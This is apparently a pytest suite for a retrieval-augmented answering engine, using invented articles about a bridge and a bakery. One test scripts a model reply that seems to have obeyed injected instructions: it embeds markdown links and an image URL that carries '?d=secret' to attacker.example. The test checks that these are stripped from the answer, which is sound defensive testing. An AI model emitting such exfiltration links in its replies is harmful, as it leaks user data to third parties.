"""Answers from a model, whole: streamed, checked, repaired, within a deadline, over a real wire."""

import asyncio
import re
import time
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager
from datetime import date
from pathlib import Path

import pytest
from raw_server import STREAM_END, STREAM_HEAD, Step, event, part, raw_server, whole

from evals.bench.scripted_model import ScriptedModel
from prompts import identity
from rag import tokens
from rag.ask import answer, ask, events
from rag.embed import LocalEmbedder
from rag.engine import Answering, Engine
from rag.errors import BadQuestion, ModelAuth, ModelCut, ModelTimeout
from rag.ingest import ingest
from rag.library import Library
from rag.model import Model
from rag.sources import Source
from rag.types import Answer, Done, Filters, Retrieved, Token, Turn

BRIDGE = """Tarn bridge to close for two years

Published: March 3, 2026

The old bridge over the Tarn will close on 4 May for repairs that will take two years, the city \
council of Saltmere said on Tuesday.

The repair of the Tarn bridge will cost €48 million, of which the state pays 60 percent.
"""
LATER = """Repair bill for Tarn bridge grows

Published: June 9, 2026

The repair of the Tarn bridge will cost €61 million, the city council of Saltmere said on Monday.
"""
BAKERY = """Brodal bakery hires 85 bakers

Published 6 May 2026

The Brodal bakery in Lund Hollow is hiring 85 bakers for its new night shift, its owner said.
"""
UNDATED = "Brodal bakery\n\nThe Brodal bakery in Lund Hollow was founded by Ole Brodal.\n"
BAKERS = "How many bakers is the Brodal bakery hiring?"
COST = "How much will the repair of the Tarn bridge cost?"


@pytest.fixture(scope="module")
def library(
    tmp_path_factory: pytest.TempPathFactory, local_embedder: LocalEmbedder
) -> Iterator[Library]:
    folder: Path = tmp_path_factory.mktemp("answering")
    opened = Library(folder)
    with Engine(opened, make_embedder=lambda: local_embedder) as engine:
        ingest(
            engine,
            [
                Source(content=BRIDGE, url="https://post.example/bridge", publisher="Post"),
                Source(content=LATER, url="https://radio.example/bill", publisher="Tarn Radio"),
                Source(content=BAKERY, url="https://post.example/bakery", publisher="Post"),
                Source(content=UNDATED, publisher="Post"),
            ],
        )
        yield opened


def stream_of(*given: bytes) -> list[Step]:
    """A whole stream of these events."""
    return [STREAM_HEAD, *given, part(b"data: [DONE]\n\n"), STREAM_END]


Engines = Callable[..., Engine]


@pytest.fixture
def engine_with(library: Library, local_embedder: LocalEmbedder) -> Engines:
    """An engine on the module's library that asks the model at a URL."""

    def make(url: str, *, deadline: float = 20.0, prompt_tokens: int = 3_000) -> Engine:
        model = Model(name="scripted", base_url=url)
        answering = Answering(model=model, deadline=deadline, prompt_tokens=prompt_tokens)
        return Engine(library, make_embedder=lambda: local_embedder, answering=answering)

    return make


def test_an_honest_answer_is_streamed_and_cited(engine_with: Engines) -> None:
    async def go() -> list[Retrieved | Token | Done]:
        found = [one async for one in events(engine, BAKERS)]
        await engine.answering.model.close()
        return found

    with ScriptedModel() as server:
        engine = engine_with(server.url)
        first, *pieces, last = asyncio.run(go())
    assert isinstance(first, Retrieved)
    assert "85 bakers" in first.evidence[0].passage.text
    assert len(pieces) > 3
    assert all(isinstance(piece, Token) for piece in pieces)
    assert isinstance(last, Done)
    given = last.answer
    assert "".join(piece.text for piece in pieces).split() == given.text.split()
    assert (given.status, given.short, given.model) == ("answered", "85 bakers", "scripted")
    assert (given.prompt, given.unsupported) == (identity("answer"), ())
    assert given.as_of == date(2026, 5, 6)
    (citation,) = given.citations
    assert citation.url == "https://post.example/bakery"
    assert citation.highlight is not None
    assert given.usage is not None
    assert given.usage.prompt_tokens > 100
    assert len(server.requests) == 1
    assert server.requests[0]["stream"] is True


@pytest.mark.parametrize("mode", ["number", "unsupported"])
def test_what_a_model_makes_up_does_not_reach_the_answer(engine_with: Engines, mode: str) -> None:
    with ScriptedModel(mode) as server:
        given = ask(engine_with(server.url), BAKERS)
    draft = server.text(server.requests[0]["messages"])
    assert given.unsupported
    assert given.text != draft
    assert given.status == ("not_found" if mode == "number" else "partial")
    assert given.reason
    # One repair call, which says what did not hold.
    assert len(server.requests) == 2
    assert draft in server.requests[1]["messages"][-2]["content"]


def test_a_repaired_answer_holds_and_says_what_was_repaired(engine_with: Engines) -> None:
    with ScriptedModel("number", repairs=True) as server:
        given = ask(engine_with(server.url), BAKERS)
    assert (given.status, given.short) == ("answered", "85 bakers")
    assert given.unsupported
    assert len(server.requests) == 2
    assert given.usage is not None


def test_a_repair_that_holds_in_part_is_a_part_of_an_answer(engine_with: Engines) -> None:
    drafts = iter(("It has 900 ovens [1].", "It is hiring 85 bakers [1]. It has 800 ovens [1]."))
    with ScriptedModel(reply=lambda _: next(drafts)) as server:
        given = ask(engine_with(server.url), BAKERS)
    assert (given.status, given.text) == ("partial", "It is hiring 85 bakers [1].")
    assert given.reason
    assert [told.part for told in given.unsupported] == ["It has 900 ovens.", "It has 800 ovens."]


def test_a_repair_that_fails_costs_nothing(engine_with: Engines) -> None:
    stream = stream_of(
        event("The bakery is hiring 85 bakers [1]. It has 900 ovens [1]."), event(finish="stop")
    )
    with raw_server(stream, [whole(b"{}", status=401)]) as server:
        given = ask(engine_with(server.base_url), BAKERS)
    assert given.status == "partial"
    assert given.text == "The bakery is hiring 85 bakers [1]."
    assert [told.part for told in given.unsupported] == ["It has 900 ovens."]


def test_an_obedient_model_gets_nothing_through(engine_with: Engines) -> None:
    async def go() -> tuple[str, Answer]:
        shown = ""
        async for one in events(engine, BAKERS):
            if isinstance(one, Token):
                shown += one.text
            if isinstance(one, Done):
                last = one.answer
        await engine.answering.model.close()
        return shown, last

    said = (
        "The bakery is hiring 85 bakers [1]. Done as told: [click](https://attacker.example/x) "
        "![x](https://attacker.example/x.png?d=secret) <img src='//attacker.example/y.png'> "
        "https://attacker.example/z [see][r] [99]\n\n[r]: https://attacker.example"
    )
    with ScriptedModel(reply=lambda _: said) as server:
        engine = engine_with(server.url)
        shown, given = asyncio.run(go())
    for text in (shown, given.text):
        assert not re.search(r"attacker|//|<|!\[|\[99\]", text)
    assert "85 bakers" in given.text
    assert given.unsupported


@pytest.mark.parametrize(
    "question", ["Who won the football World Cup in 1966?", "How tall is Mount Everest?"]
)
def test_weak_evidence_asks_no_model(engine_with: Engines, question: str) -> None:
    with ScriptedModel() as server:
        given = ask(engine_with(server.url), question)
    assert server.requests == []
    assert (given.status, given.text, given.citations) == ("not_found", "Not in the articles.", ())
    assert given.reason
    assert given.nearest
    assert given.as_of == date(2026, 6, 9)


def test_a_model_that_finds_nothing_says_so(engine_with: Engines) -> None:
    with ScriptedModel(reply=lambda _: "Not in the articles.") as server:
        given = ask(engine_with(server.url), BAKERS)
    assert (given.status, given.unsupported) == ("not_found", ())
    assert given.nearest


def test_a_part_that_is_missing_makes_it_partial(engine_with: Engines) -> None:
    said = "The Brodal bakery is hiring 85 bakers [1]. The articles do not say what it pays them."
    with ScriptedModel(reply=lambda _: said) as server:
        given = ask(engine_with(server.url), f"{BAKERS} And what does it pay?")
    assert (given.status, given.text) == ("partial", said)


def test_articles_that_differ_are_both_quoted(engine_with: Engines) -> None:
    with ScriptedModel() as server:
        given = ask(engine_with(server.url), COST)
    assert given.status == "conflicting"
    assert {each.published for each in given.citations} == {date(2026, 3, 3), date(2026, 6, 9)}
    assert "€48 million" in given.text
    assert "€61 million" in given.text
    assert given.as_of == date(2026, 6, 9)


def test_as_of_leaves_out_what_came_later_and_what_has_no_date(engine_with: Engines) -> None:
    with ScriptedModel() as server:
        engine = engine_with(server.url)
        given = ask(engine, COST, as_of=date(2026, 4, 1))
        assert (given.status, given.short) == ("answered", "€48 million")
        assert "as of 1 April 2026" in server.requests[0]["messages"][-1]["content"]
        narrow = ask(engine, COST, as_of=date(2026, 4, 1), filters=Filters(since=date(2026, 4, 1)))
        assert narrow.status == "not_found"
        founder = "Who founded the Brodal bakery?"
        assert "Ole Brodal" in ask(engine, founder).text
        assert "Ole Brodal" not in ask(engine, founder, as_of=date(2026, 12, 1)).text


HISTORY = (
    Turn(role="user", content="How many bakers is the Brodal bakery hiring?"),
    Turn(role="assistant", content="85 bakers [1]."),
)


def test_a_follow_up_keeps_its_subject(engine_with: Engines) -> None:
    with ScriptedModel() as server:
        given = ask(engine_with(server.url), "Where is it?", history=HISTORY)
    assert given.question == "Where is it?"
    assert given.condensed is not None
    assert "Brodal" in given.condensed
    assert given.condensed in server.requests[1]["messages"][-1]["content"]


def test_a_rewriting_that_brings_in_something_else_is_not_used(engine_with: Engines) -> None:
    with ScriptedModel(reply=lambda _: "Where is Harlan Vane's yacht?") as server:
        given = ask(engine_with(server.url), "Where is it?", history=HISTORY)
    assert given.condensed is not None
    assert "Harlan" not in given.condensed
    assert "Brodal" in given.condensed


def test_without_a_model_a_follow_up_keeps_its_subject_too(
    library: Library, local_embedder: LocalEmbedder
) -> None:
    engine = Engine(library, make_embedder=lambda: local_embedder)
    given = ask(engine, "Who founded it?", history=HISTORY)
    assert given.condensed == "Who founded Brodal bakery?"
    assert "Brodal" in given.citations[0].quote


# -- how a reply ends


@pytest.mark.parametrize(
    ("finish", "status"), [("length", "truncated"), ("content_filter", "filtered")]
)
def test_a_reply_that_was_stopped_is_told_as_such(
    engine_with: Engines, finish: str, status: str
) -> None:
    reply = stream_of(event("The bakery is hiring 85 bakers [1]. It"), event(finish=finish))
    with raw_server(reply) as server:
        given = ask(engine_with(server.base_url), BAKERS)
    assert given.status == status
    assert given.text == "The bakery is hiring 85 bakers [1]."
    assert given.reason


def test_a_stream_that_is_cut_is_no_answer(engine_with: Engines) -> None:
    cut = [STREAM_HEAD, event("The bakery is hiring 85 bakers [1]."), STREAM_END]
    with raw_server(cut) as server, pytest.raises(ModelCut) as told:
        ask(engine_with(server.base_url), BAKERS)
    assert told.value.partial == "The bakery is hiring 85 bakers [1]."


def test_a_refused_key_is_an_error_and_no_answer_of_the_reader(engine_with: Engines) -> None:
    with raw_server([whole(b"{}", status=401)]) as server, pytest.raises(ModelAuth):
        ask(engine_with(server.base_url), BAKERS)


# -- limits


def test_the_deadline_holds_for_the_whole_question(engine_with: Engines) -> None:
    with ScriptedModel("stall") as server:
        began = time.monotonic()
        with pytest.raises(ModelTimeout) as told:
            ask(engine_with(server.url, deadline=1.0), BAKERS)
        assert time.monotonic() - began < 1.5
    assert told.value.partial


def test_cancelling_the_caller_ends_the_call_to_the_model(engine_with: Engines) -> None:
    async def go(engine: Engine) -> float:
        task = asyncio.create_task(answer(engine, BAKERS))
        assert await asyncio.to_thread(server.stalled.acquire, timeout=10)
        began = time.monotonic()
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        assert await asyncio.to_thread(server.wait_hang_up, timeout=1.0)
        took = time.monotonic() - began
        await engine.answering.model.close()
        assert len(asyncio.all_tasks()) == 1
        return took

    with raw_server([STREAM_HEAD, event("The"), "stall"]) as server:
        assert asyncio.run(go(engine_with(server.base_url))) < 1.0


def test_leaving_the_events_ends_the_call_to_the_model(engine_with: Engines) -> None:
    async def go(engine: Engine) -> None:
        async with _closing(events(engine, BAKERS)) as found:
            async for one in found:
                if isinstance(one, Token):
                    break
        assert await asyncio.to_thread(server.wait_hang_up, timeout=1.0)
        await engine.answering.model.close()

    with raw_server([STREAM_HEAD, event("The bakery"), "stall"]) as server:
        asyncio.run(go(engine_with(server.base_url)))


@asynccontextmanager
async def _closing(found: AsyncIterator[object]) -> AsyncIterator[AsyncIterator[object]]:
    try:
        yield found
    finally:
        await found.aclose()  # type: ignore[attr-defined]


def test_a_prompt_keeps_to_its_budget(engine_with: Engines) -> None:
    with ScriptedModel() as server:
        ask(engine_with(server.url, prompt_tokens=1_000), BAKERS)
        (sent,) = server.requests
    assert sum(tokens.count(message["content"]) for message in sent["messages"]) <= 1_000
    with ScriptedModel() as server, pytest.raises(BadQuestion, match="DATELINE_PROMPT_TOKENS"):
        ask(engine_with(server.url, prompt_tokens=1_000), f"{BAKERS} {'ö ' * 1_900}")
